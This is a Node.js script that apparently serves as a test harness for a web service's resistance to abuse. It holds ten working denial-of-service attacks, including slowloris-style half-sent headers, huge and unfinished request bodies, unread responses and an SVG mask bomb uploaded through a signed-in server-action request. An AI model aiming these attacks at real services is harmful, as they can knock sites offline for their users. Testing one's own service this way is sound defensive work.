// One of the attacks that a stranger can make, held until it is killed. A process of its own with little priority, as if it were
// another machine, plain JavaScript.
import { randomBytes } from "node:crypto";
import { connect } from "node:net";
import { setPriority } from "node:os";

const [kind, origin = "http://127.0.0.1", extra = "{}"] = process.argv.slice(2);
const { hostname, port } = new URL(origin);
// Some have an account: what they may read and change.
const { pdfs = [], cookie, exportPath, logo } = JSON.parse(extra);
const PAUSE_MS = 50;
setPriority(10);

/** So many connections, each begun anew when it is closed; `send` gets each, and a number. */
function hold(count, send) {
  const open = (n) => {
    const socket = connect({ host: hostname, port: Number(port) }, () => send(socket, n));
    socket.on("error", () => undefined);
    socket.once("close", () => setTimeout(open, PAUSE_MS, n));
    return socket;
  };
  for (let n = 0; n < count; n += 1) setTimeout(open, n / 10, n);
}

/** Asks again as soon as it is answered. */
function repeat(count, pathOf) {
  hold(count, (socket, n) => {
    const ask = () => socket.write(`GET ${pathOf(n)} HTTP/1.1\r\nHost: x\r\n\r\n`);
    socket.on("data", () => setTimeout(ask, 1));
    ask();
  });
}

const post = (path, length) => `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: ${length}\r\n`;
const SIGNED_IN = `Cookie: ${cookie}\r\nConnection: close\r\n\r\n`;
const FORM = "Content-Type: application/x-www-form-urlencoded\r\n\r\n";

/** Each draws two of the one before: 2^60 rectangles. */
function logoBomb() {
  const mask = (n) => {
    const masked = n === 0 ? "" : ` mask="url(#m${n - 1})"`;
    const half = `<rect width="8" height="8" fill="#fff"${masked}/>`;
    return `<mask id="m${n}">${half}${half}</mask>`;
  };
  const masks = Array.from({ length: 60 }, (_, n) => mask(n)).join("");
  return `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><defs>${masks}</defs><rect width="8" height="8" mask="url(#m59)"/></svg>`;
}

/** As the brand's page sends it. */
function uploadOf({ path, action, args }) {
  const part = (head, value) => `--x\r\nContent-Disposition: form-data; ${head}\r\n\r\n${value}\r\n`;
  const file = part('name="1_logo"; filename="logo.svg"\r\nContent-Type: image/svg+xml', logoBomb());
  const body = `${file}${part('name="0"', JSON.stringify([...args, "$K1"]))}--x--\r\n`;
  const head = post(path, Buffer.byteLength(body));
  return `${head}Next-Action: ${action}\r\nContent-Type: multipart/form-data; boundary=x\r\n${SIGNED_IN}${body}`;
}

/** Writes as fast as it is read. */
function flood(socket, bytes) {
  const piece = Buffer.alloc(65_536, "x");
  let left = bytes;
  const more = () => {
    while (left > 0 && !socket.destroyed) {
      left -= piece.length;
      if (!socket.write(piece)) return void socket.once("drain", more);
    }
  };
  more();
}

const ATTACKS = {
  "unfinished bodies": () =>
    hold(66, (socket) => {
      socket.resume().write(`${post("/v1/oauth/token", 16_384)}${FORM}${"x".repeat(16_383)}`);
    }),
  "large bodies": () =>
    hold(40, (socket) => {
      socket.resume().write(post("/sign-in", 200_000_000) + FORM);
      flood(socket, 200_000_000);
    }),
  slashes: () => repeat(8, () => `/r/${"/".repeat(2_000)}x`),
  PDFs: () => repeat(6, (n) => pdfs[n % pdfs.length]),
  exports: () => hold(8, (socket) => socket.resume().write(`GET ${exportPath} HTTP/1.1\r\nHost: x\r\n${SIGNED_IN}`)),
  "logo bombs": () => hold(4, (socket) => socket.resume().write(uploadOf(logo))),
  "paths of scanners": () => repeat(8, () => `/${randomBytes(6).toString("hex")}.php`),
  "wrong receipts": () => repeat(8, () => `/r/${randomBytes(14).toString("hex").slice(0, 27)}`),
  "unfinished heads": () => hold(9_000, (socket) => socket.write("GET /v1/stores HTTP/1.1\r\nHost: x\r\nX-Slow: ")),
  "unread answers": () =>
    hold(2_000, (socket) => {
      socket.pause();
      socket.write("GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n".repeat(60));
    }),
};

if (kind === "list") console.log(Object.keys(ATTACKS).join("\n"));
else ATTACKS[kind]();
